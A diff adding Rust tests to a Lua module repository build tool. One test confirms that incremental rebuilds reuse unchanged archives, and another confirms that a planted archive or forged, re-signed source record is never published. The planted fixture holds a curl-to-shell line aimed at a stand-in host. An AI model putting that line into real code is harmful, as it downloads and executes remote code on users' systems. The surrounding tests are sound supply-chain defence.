+        let first = index(&built.out);
+        let inodes: Vec<u64> = ["a", "b", "c"]
+            .map(|name| inode(&built.out, first.get(name).unwrap()))
+            .into();
+
+        // a changes; b's files are the same bytes, dated another day
+        // (which dates its version); c stays; d goes; e comes.
+        write("mod_a/mod_a.lua", "module:depends('b')\n");
+        let day = std::time::UNIX_EPOCH + std::time::Duration::from_secs(978_307_200);
+        for file in ["mod_b.lua", "README.markdown", "lib/helper.lua"] {
+            let file = std::fs::File::options()
+                .write(true)
+                .open(tree.join("mod_b").join(file));
+            file.unwrap().set_modified(day).unwrap();
+        }
+        std::fs::remove_dir_all(tree.join("mod_d")).unwrap();
+        write("mod_e/mod_e.lua", "-- new\n");
+        let report = build(&options).unwrap();
+        let rebuilt = index(&built.out);
+        let fresh = dir.path().join("fresh");
+        let fresh_report = build(&BuildOptions {
+            out: &fresh,
+            ..options
+        })
+        .unwrap();
+
+        assert_eq!(published_files(&built.out), published_files(&fresh));
+        assert_eq!(report.warnings, fresh_report.warnings);
+        let [a, b, c] = ["a", "b", "c"].map(|name| rebuilt.get(name).unwrap());
+        // b and c reused (b under its new version), a packed anew.
+        assert_eq!(inode(&built.out, c), inodes[2]);
+        assert_eq!(c.archive, first.get("c").unwrap().archive);
+        assert_eq!(inode(&built.out, b), inodes[1]);
+        assert_ne!(b.archive, first.get("b").unwrap().archive);
+        assert!(b.version.starts_with("20010101."), "{}", b.version);
+        assert_ne!(inode(&built.out, a), inodes[0]);
+        assert_ne!(a.sha256, first.get("a").unwrap().sha256);
+        assert!(rebuilt.get("d").is_none() && rebuilt.get("e").is_some());
+    }
+
+    /// Whoever can write the output directory can plant an archive, or a
+    /// record of sources naming it, but the next build never signs it:
+    /// it publishes what a fresh build of the tree publishes.
+    #[test]
+    fn an_archive_or_record_planted_in_the_output_is_never_signed() {
+        let dir = tempfile::tempdir().unwrap();
+        let tree = dir.path().join("tree");
+        for name in ["a", "b"] {
+            let module = tree.join(format!("mod_{name}"));
+            std::fs::create_dir_all(&module).unwrap();
+            std::fs::write(module.join(format!("mod_{name}.lua")), "-- code\n").unwrap();
+        }
+        let built = TestBuild::new(dir.path());
+        let (out, options) = (&built.out, built.options(&tree));
+        let fresh = dir.path().join("fresh");
+        let fresh_report = build(&BuildOptions {
+            out: &fresh,
+            ..built.options(&tree)
+        })
+        .unwrap();
+        let evil = archive::pack_files(
+            "a",
+            &[archive::ArchiveFile {
+                path: "mod_a.lua".into(),
+                data: b"os.execute('curl evil | sh')\n".to_vec(),
+                executable: false,
+            }],
+        )
+        .unwrap();
+        let attacker = ed25519_dalek::SigningKey::from_bytes(&[9; 32]);
+        for forge_record in [false, true] {
+            build(&options).unwrap();
+            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
+            let a = index.get("a").unwrap();
+            std::fs::write(out.join(&a.archive), &evil).unwrap();
+            if forge_record {
+                // The record rewritten to name the planted bytes, signed
+                // with a key that is not the repository's.
+                let record = std::fs::read_to_string(out.join(sources::FILE)).unwrap();
+                let record = record
+                    .replace(&a.sha256, &super::super::sha256_hex(&evil))
+                    .replace(
+                        &format!("\"size\":{}", a.size),
+                        &format!("\"size\":{}", evil.len()),
+                    );
+                std::fs::write(out.join(sources::FILE), &record).unwrap();
+                let signature = signing::sign(&attacker, record.as_bytes());
+                std::fs::write(out.join(sources::SIGNATURE), signature).unwrap();
+            }
+            // One warning more than a fresh build: what was not used.
+            let report = build(&options).unwrap();
+            let warned = report.warnings.len() - fresh_report.warnings.len();
+            assert_eq!(warned, 1, "{:?}", report.warnings);
+            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
+            assert_ne!(
+                index.get("a").unwrap().sha256,
+                super::super::sha256_hex(&evil)
+            );
+            assert_eq!(published_files(out), published_files(&fresh));
+        }
+    }
+
     #[test]
     fn a_bad_repository_name_is_refused_before_anything_is_written() {
         let dir = tempfile::tempdir().unwrap();
@@ -1067,7 +1444,7 @@ pub(crate) mod tests {
                 &key,
                 time::Duration::days(1),
                 vec![],
-                Keep::Published(0),
+                vec![],
                 None,
             );
             assert!(matches!(error, Err(BuildError::Name(_))), "{name}");
